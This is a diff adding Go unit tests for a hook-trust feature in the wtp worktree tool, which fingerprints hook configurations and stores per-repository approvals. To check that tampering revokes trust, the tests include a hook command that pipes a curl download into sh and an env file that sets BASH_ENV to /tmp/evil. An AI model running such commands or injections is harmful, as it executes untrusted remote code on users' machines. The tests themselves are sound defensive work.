@@ -0,0 +1,101 @@
+package trust
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"github.com/satococoa/wtp/v2/internal/config"
+)
+
+func TestNewFingerprint(t *testing.T) {
+	repo := t.TempDir()
+	cfg := &config.Config{Hooks: config.Hooks{PostCreate: []config.Hook{
+		{Type: config.HookTypeCopy, From: ".env", To: ".env"},
+		{
+			Type:    config.HookTypeCommand,
+			Run:     "set -e\nmake setup\n",
+			Shell:   "bash",
+			Env:     map[string]string{"B": "2", "A": "1"},
+			WorkDir: "api",
+		},
+	}}}
+
+	fp := NewFingerprint(cfg, repo)
+	assert.Equal(t, "hook 2 (command):\n"+
+		"  run: set -e\n"+
+		"    make setup\n"+
+		"  shell: bash\n"+
+		"  work_dir: api\n"+
+		"  env: A=1\n"+
+		"  env: B=2\n", fp.Hooks)
+	assert.Len(t, fp.Hash, 64)
+	assert.Equal(t, fp, NewFingerprint(cfg, repo), "fingerprints are deterministic")
+
+	isolated := &config.Config{Hooks: config.Hooks{PostCreate: []config.Hook{{
+		Type:     config.HookTypeCommand,
+		Command:  "npm ci",
+		EnvMode:  config.EnvModeAllowlist,
+		EnvAllow: []string{"NODE_*"},
+		EnvFile:  ".env",
+		Sandbox:  true,
+	}}}}
+	assert.Equal(t, "hook 1 (command):\n"+
+		"  command: npm ci\n"+
+		"  env_mode: allowlist\n"+
+		"  env_allow: NODE_*\n"+
+		"  env_file: .env (missing)\n"+
+		"  sandbox: true\n", NewFingerprint(isolated, repo).Hooks)
+
+	require.NoError(t, os.WriteFile(filepath.Join(repo, ".env"), []byte("NODE_ENV=test\n"), 0o600))
+	approved := NewFingerprint(isolated, repo)
+	assert.Contains(t, approved.Hooks, "  env_file: .env (sha256:")
+	require.NoError(t, os.WriteFile(filepath.Join(repo, ".env"), []byte("BASH_ENV=/tmp/evil\n"), 0o600))
+	assert.NotEqual(t, approved.Hash, NewFingerprint(isolated, repo).Hash, "editing the env_file requires new trust")
+
+	copyOnly := &config.Config{Hooks: config.Hooks{PostCreate: cfg.Hooks.PostCreate[:1]}}
+	assert.True(t, NewFingerprint(copyOnly, repo).Empty())
+}
+
+func TestStore(t *testing.T) {
+	store := NewStore(t.TempDir())
+	repo := t.TempDir()
+	cfg := &config.Config{Hooks: config.Hooks{PostCreate: []config.Hook{
+		{Type: config.HookTypeCommand, Command: "npm ci"},
+	}}}
+	fp := NewFingerprint(cfg, repo)
+
+	trusted, err := store.IsTrusted(fp)
+	require.NoError(t, err)
+	assert.False(t, trusted)
+
+	require.NoError(t, store.Trust(fp))
+	trusted, err = store.IsTrusted(fp)
+	require.NoError(t, err)
+	assert.True(t, trusted)
+
+	cfg.Hooks.PostCreate[0].Command = "npm ci && curl example.com | sh"
+	trusted, err = store.IsTrusted(NewFingerprint(cfg, repo))
+	require.NoError(t, err)
+	assert.False(t, trusted)
+
+	otherRepo := NewFingerprint(&config.Config{Hooks: config.Hooks{PostCreate: []config.Hook{
+		{Type: config.HookTypeCommand, Command: "npm ci"},
+	}}}, t.TempDir())
+	trusted, err = store.IsTrusted(otherRepo)
+	require.NoError(t, err)
+	assert.False(t, trusted, "trust is recorded per repository")
+
+	require.NoError(t, store.Revoke(fp.Repo))
+	trusted, err = store.IsTrusted(fp)
+	require.NoError(t, err)
+	assert.False(t, trusted)
+}
+
+func TestDiff(t *testing.T) {
+	assert.Equal(t, "  a\n- b\n+ x\n  c\n+ d\n", Diff("a\nb\nc\n", "a\nx\nc\nd\n"))
+	assert.Equal(t, "+ a\n", Diff("", "a\n"))
+}